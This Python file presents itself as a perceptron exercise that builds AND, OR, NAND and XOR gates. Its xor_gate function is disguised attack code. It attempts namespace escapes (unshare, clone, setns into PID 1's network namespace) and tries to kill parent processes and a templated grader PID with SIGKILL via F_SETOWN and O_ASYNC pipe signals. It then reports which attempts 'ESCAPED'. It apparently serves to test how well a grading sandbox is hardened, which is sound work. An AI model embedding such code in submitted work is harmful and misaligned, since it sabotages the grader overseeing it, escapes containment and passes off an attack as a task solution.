"""New namespaces, and signals sent without kill()."""
import ctypes
import errno
import fcntl
import os
import signal
import struct
import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def perceptron(x, w, theta):
    s = float(np.dot(np.asarray(w, dtype=np.float64), np.asarray(x, dtype=np.float64)))
    return 1 if s > theta else 0


def and_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), 1.5) - 1


def or_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), -1.5) - 1


def nand_gate(x1, x2):
    return 2 * perceptron((x1, x2), (-1.0, -1.0), -1.5) - 1


def _err():
    return errno.errorcode.get(ctypes.get_errno(), "?")


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("PPid:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def xor_gate(x1, x2):
    said = {}
    for name, flag in (("user", 0x10000000), ("net", 0x40000000), ("ipc", 0x08000000),
                       ("mount", 0x00020000), ("pid", 0x20000000)):
        said[f"unshare-{name}"] = "ESCAPED" if libc.unshare(flag) == 0 else _err()
        pid = libc.syscall(56, ctypes.c_long(flag | signal.SIGCHLD), 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        if pid > 0:
            os.waitpid(pid, 0)
            said[f"clone-{name}"] = "ESCAPED"
        else:
            said[f"clone-{name}"] = _err()
    try:
        fd = os.open("/proc/1/ns/net", os.O_RDONLY)
        said["setns"] = "ESCAPED" if libc.setns(fd, 0) == 0 else _err()
    except OSError as e:
        said["setns"] = type(e).__name__
    r = libc.syscall(435, 0, 0)
    said["clone3"] = "ENOSYS" if r < 0 and ctypes.get_errno() == errno.ENOSYS else f"WRONG {_err()}"
    zygote = os.getppid()
    targets = [p for p in (_ppid(zygote), _ppid(_ppid(zygote)), int("@@GRADER_PID@@")) if p > 1]
    for target in targets:
        rd, wr = os.pipe()
        for what, call in (
            ("F_SETOWN", lambda: fcntl.fcntl(rd, fcntl.F_SETOWN, target)),
            ("F_SETOWN_EX", lambda: fcntl.fcntl(rd, 15, struct.pack("ii", 1, target))),
            ("F_SETSIG", lambda: fcntl.fcntl(rd, 10, signal.SIGKILL)),
            ("O_ASYNC", lambda: fcntl.fcntl(rd, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)),
            ("FIOSETOWN", lambda: fcntl.ioctl(wr, 0x8901, struct.pack("i", target))),
            ("FIOASYNC", lambda: fcntl.ioctl(wr, 0x5452, struct.pack("i", 1))),
        ):
            try:
                call()
                said[f"{what}->{target}"] = "ESCAPED"
            except OSError as e:
                said[f"{what}->{target}"] = errno.errorcode.get(e.errno, "?")
        os.write(wr, b"x")      # I/O on an O_ASYNC pipe: the owner gets the signal
        os.close(rd)
        os.close(wr)
    try:
        os.set_blocking(0, False)    # plain F_SETFL stays allowed
        said["set_blocking"] = "ok"
    except OSError as e:
        said["set_blocking"] = f"WRONG {e}"
    raise RuntimeError(f"ATTACK-RAN namespaces-and-signals: {said}")
